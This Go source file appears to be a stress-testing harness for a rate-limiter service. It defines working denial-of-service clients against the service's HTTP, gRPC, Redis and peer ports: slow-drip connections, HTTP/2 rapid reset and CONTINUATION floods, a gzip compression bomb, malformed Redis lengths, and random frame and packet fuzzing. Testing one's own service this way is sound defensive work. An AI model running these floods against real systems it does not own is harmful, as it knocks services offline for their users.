package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is one kind of hostile client. loose attacks until ctx ends, and returns how many times.
// The client that behaves asks at door, which is the one that is attacked where that has clients.
type attack struct {
	name, what, door string
	loose            func(ctx context.Context, v *victim) int64
}

var attacks = []attack{
	{
		"slow-http",
		"2000 connections, a byte of a header each second",
		"http",
		drip(2000, func(v *victim) string { return v.http }, "GET /v1/check HTTP/1.1\r\nX: "),
	},
	{
		"slow-redis",
		"2000 connections, a byte of a command each second",
		"redis",
		drip(2000, func(v *victim) string { return v.redis }, "*5\r\n$11\r\n"),
	},
	{
		"slow-grpc",
		"2000 connections, a byte of a frame each second",
		"grpc",
		drip(
			2000,
			func(v *victim) string { return v.grpc },
			http2.ClientPreface+"\x00\x40\x00\x01",
		),
	},
	{
		"slow-peer",
		"500 connections to the peer door, a byte of a frame each second",
		"http",
		drip(500, func(v *victim) string { return v.peer }, http2.ClientPreface+"\x00\x40\x00\x01"),
	},
	{
		"half-requests",
		"50 connections with 900 calls each; half of each message comes",
		"grpc",
		each(50, halfRequests),
	},
	{
		"rapid-reset",
		"20 connections that open and reset calls",
		"grpc",
		each(20, func(ctx context.Context, v *victim) int { return resets(ctx, v.grpc) }),
	},
	{"continuation", "20 connections with headers without end", "grpc", each(20, continuation)},
	{"compression-bomb", "messages of 2 KiB that say they unpack to 2 MiB", "grpc", each(20, bomb)},
	{"endless-resp", "lengths and lines without end", "redis", each(20, endlessRESP)},
	{
		"unread-pipelines", "200 connections that send commands and read nothing", "redis",
		each(200, unread),
	},
	{"churn", "connections that are opened and closed", "http", each(50, churn)},
	{"greedy", "400 connections that send commands without a pause", "redis", each(400, greedy)},
	{"guessed-holds", "settlements of drawn holds", "http", each(50, guess)},
	{"invented-holders", "reservations, each by another holder", "http", inventedHolders},
	{"forged-gossip", "drawn packets and lengths at their extremes", "http", each(10, gossip)},
	{"forged-frames", "drawn frames at the peer door", "http", each(20, frames)},
	{"new-keys", "drawn keys, in pipelines of 100", "redis", each(20, newKeys)},
}

// each has n goroutines attack again and again. once reports how often it has.
func each(
	n int,
	once func(ctx context.Context, v *victim) int,
) func(context.Context, *victim) int64 {
	return func(ctx context.Context, v *victim) int64 {
		var sent atomic.Int64
		var wg sync.WaitGroup
		for range n {
			wg.Go(func() {
				for ctx.Err() == nil {
					did := once(ctx, v)
					sent.Add(int64(did))
					if did == 0 {
						time.Sleep(10 * time.Millisecond)
					}
				}
			})
		}
		wg.Wait()
		return sent.Load()
	}
}

// dial opens a connection that ends with ctx; nil: it was refused.
func dial(ctx context.Context, network, address string) net.Conn {
	d := net.Dialer{Timeout: time.Second}
	c, err := d.DialContext(ctx, network, address)
	if err != nil {
		return nil
	}
	context.AfterFunc(ctx, func() { c.Close() })
	return c
}

// drip keeps n connections that say hello and then a byte each second.
func drip(n int, door func(*victim) string, hello string) func(context.Context, *victim) int64 {
	return each(n, func(ctx context.Context, v *victim) (sent int) {
		c := dial(ctx, "tcp", door(v))
		if c == nil {
			return 0
		}
		defer c.Close()
		for text := hello; ; text = "x" {
			if _, err := io.WriteString(c, text); err != nil {
				return sent
			}
			sent++
			select {
			case <-ctx.Done():
				return sent
			case <-time.After(time.Second):
			}
		}
	})
}

// call is the head of a gRPC call.
func call(more ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: "/penstock.v1.RateLimiter/Check"},
		{Name: ":authority", Value: "x"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}, more...) {
		_ = e.WriteField(f)
	}
	return b.Bytes()
}

// http2To opens an HTTP/2 connection, and reads what comes. nil: it was refused.
func http2To(ctx context.Context, address string) (*http2.Framer, net.Conn) {
	c := dial(ctx, "tcp", address)
	if c == nil {
		return nil, nil
	}
	_, _ = io.WriteString(c, http2.ClientPreface)
	f := http2.NewFramer(c, nil)
	f.AllowIllegalWrites = true
	_ = f.WriteSettings()
	_ = f.WriteSettingsAck()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	return f, c
}

// message is a gRPC message of which only the length is told.
func message(compressed byte, length int) []byte {
	return binary.BigEndian.AppendUint32([]byte{compressed}, uint32(length))
}

func halfRequests(ctx context.Context, v *victim) (sent int) {
	f, c := http2To(ctx, v.grpc)
	if f == nil {
		return 0
	}
	defer c.Close()
	head, half := call(), append(message(0, 32<<10), make([]byte, 15<<10)...)
	for id := uint32(1); id < 1800; id += 2 {
		if f.WriteHeaders(
			http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true},
		) != nil ||
			f.WriteData(id, false, half) != nil {
			return sent
		}
		sent++
	}
	<-ctx.Done()
	return sent
}

func resets(ctx context.Context, door string) (sent int) {
	f, c := http2To(ctx, door)
	if f == nil {
		return 0
	}
	defer c.Close()
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		head := call() // the same in each call: the dynamic table is not referred to by the first
		if f.WriteHeaders(
			http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true},
		) != nil ||
			f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return sent
		}
		sent++
	}
	return sent
}

func continuation(ctx context.Context, v *victim) (sent int) {
	f, c := http2To(ctx, v.grpc)
	if f == nil {
		return 0
	}
	defer c.Close()
	if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: call()}) != nil {
		return 0
	}
	piece := call(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 8<<10)})
	for f.WriteContinuation(1, false, piece) == nil {
		sent++
	}
	return sent
}

// zeros are 2 MiB of them, compressed.
var zeros = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write(make([]byte, 2<<20))
	_ = z.Close()
	return b.Bytes()
})

func bomb(ctx context.Context, v *victim) (sent int) {
	f, c := http2To(ctx, v.grpc)
	if f == nil {
		return 0
	}
	defer c.Close()
	body := append(message(1, len(zeros())), zeros()...)
	for id := uint32(1); id < 2000; id += 2 {
		head := call(hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
		if f.WriteHeaders(
			http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true},
		) != nil ||
			f.WriteData(id, true, body) != nil {
			return sent
		}
		sent++
	}
	return sent
}

// talk sends text to the Redis door until the node has enough of it.
func talk(ctx context.Context, v *victim, text string, reads bool) (sent int) {
	c := dial(ctx, "tcp", v.redis)
	if c == nil {
		return 0
	}
	defer c.Close()
	if reads {
		go func() { _, _ = io.Copy(io.Discard, c) }()
	}
	for {
		if _, err := io.WriteString(c, text); err != nil {
			return sent
		}
		sent++
	}
}

func endlessRESP(ctx context.Context, v *victim) int {
	return talk(ctx, v, []string{
		"*2147483647\r\n", "*1\r\n$2147483647\r\n" + strings.Repeat("x", 1<<16),
		strings.Repeat("x", 1<<16), "*-1\r\n$-9223372036854775808\r\n",
		"*1024\r\n" + strings.Repeat("$1\r\nx\r\n", 1023),
	}[rand.IntN(5)], true)
}

// throttle is a check as Redis clients send it. Without a length of the array the door would take
// it for a mistake, and end the connection.
func throttle(key string, seconds int) string {
	return fmt.Sprintf("*6\r\n$11\r\nCL.THROTTLE\r\n$%d\r\n%s\r\n$1\r\n9\r\n$2\r\n10\r\n"+
		"$4\r\n%04d\r\n$1\r\n1\r\n", len(key), key, seconds)
}

func unread(ctx context.Context, v *victim) int {
	return talk(ctx, v, strings.Repeat(throttle("key", 60), 100), false)
}

func greedy(ctx context.Context, v *victim) int {
	return talk(ctx, v, strings.Repeat(throttle("key", 60), 100), true)
}

func newKeys(ctx context.Context, v *victim) int {
	var b strings.Builder
	for range 100 {
		b.WriteString(throttle(word(), 3600))
	}
	c := dial(ctx, "tcp", v.redis)
	if c == nil {
		return 0
	}
	defer c.Close()
	_, _ = io.WriteString(c, b.String())
	_, _ = io.ReadAtLeast(c, make([]byte, 4<<10), 2000)
	return 100
}

func churn(ctx context.Context, v *victim) int {
	for _, door := range []string{v.http, v.grpc, v.redis, v.peer, v.gossip} {
		if c := dial(ctx, "tcp", door); c != nil {
			c.Close()
		}
	}
	return 5
}

func guess(ctx context.Context, v *victim) (sent int) {
	c := dial(ctx, "tcp", v.http)
	if c == nil {
		return 0
	}
	defer c.Close()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	for {
		body := fmt.Sprintf(`{"id":"%016x%016x","actual":0}`, rand.Uint64(), rand.Uint64())
		if _, err := fmt.Fprintf(
			c, "POST /v1/settle HTTP/1.1\r\nHost: localhost\r\nContent-Type: "+
				"application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body,
		); err != nil {
			return sent
		}
		sent++
	}
}

// noise are drawn bytes; some of them are all ones or all zeros, as lengths at their extremes are.
func noise(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rand.Uint32())
	}
	for range 3 {
		at := rand.IntN(n)
		copy(b[at:], bytes.Repeat([]byte{byte(-rand.IntN(2))}, 8))
	}
	return b
}

func gossip(ctx context.Context, v *victim) int {
	network := []string{"tcp", "udp"}[rand.IntN(2)]
	c := dial(ctx, network, v.gossip)
	if c == nil {
		return 0
	}
	defer c.Close()
	for range 20 {
		_, _ = c.Write(append([]byte{byte(rand.IntN(16))}, noise(1200)...))
	}
	return 20
}

func frames(ctx context.Context, v *victim) (sent int) {
	f, c := http2To(ctx, v.peer)
	if f == nil {
		return 0
	}
	defer c.Close()
	head := call()
	if f.WriteHeaders(
		http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndHeaders: true},
	) != nil {
		return 0
	}
	for range 50 {
		b := noise(1 + rand.IntN(4<<10))
		if f.WriteRawFrame(
			http2.FrameType(rand.IntN(12)),
			http2.Flags(rand.IntN(256)),
			uint32(rand.IntN(8)),
			b,
		) != nil {
			return sent
		}
		sent++
	}
	return sent
}
